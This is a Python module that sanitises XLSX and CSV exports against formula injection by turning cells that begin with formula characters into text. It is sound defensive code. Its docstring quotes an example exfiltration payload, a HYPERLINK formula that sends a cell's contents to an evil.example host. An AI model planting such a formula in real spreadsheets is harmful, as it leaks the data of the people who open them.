"""Spreadsheet cells that can never run as formulas (CSV/formula injection, OWASP).

An enterprise chooses its own name, and curators type free text; a value such as
``=HYPERLINK("http://evil.example/?"&A1,"点击")`` written into an export would otherwise be
stored as a formula and run in the bureau's Excel. Every XLSX and CSV writer of the system
passes its rows through here:

* XLSX: a string that begins with ``=``, ``+``, ``-``, ``@``, tab or CR becomes an explicit
  text cell (``data_type`` ``'s'``, plus Excel's *quote prefix* so editing the cell in Excel
  keeps it text). The value itself is unchanged, so it reads back as exactly the same string
  and an exported workbook re-imports to the same data.
* CSV has no cell types: such a string is written with a leading apostrophe, as OWASP advises.

Only strings are touched: numbers (negative ones included) stay numbers.

Callers need openpyxl (the ``spreadsheets`` extra of this distribution); registry and scoring
depend on it directly.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any
from typing import Final

from openpyxl.cell import WriteOnlyCell

#: First characters that make a spreadsheet treat a value as a formula (OWASP CSV injection).
FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """True for a string a spreadsheet could read as a formula; never for a number."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def text_cell(sheet: Any, value: str) -> Any:
    """A cell holding ``value`` as text, whatever its first character (any openpyxl sheet)."""
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def safe_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """``values`` ready for ``sheet.append``: formula-like strings replaced by text cells.

    Works for write-only and ordinary worksheets alike (``append`` accepts cells of the sheet).
    """
    return [text_cell(sheet, v) if looks_like_formula(v) else v for v in values]


def csv_safe(value: Any) -> Any:
    """A CSV field that no spreadsheet will evaluate: formula-like text gets a leading ``'``.

    A string that is a plain number (``"-12"``, ``"+3.5"``) is a number, not a formula, and is
    left as it is.
    """
    if not looks_like_formula(value) or _is_number(value):
        return value
    return "'" + value


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text
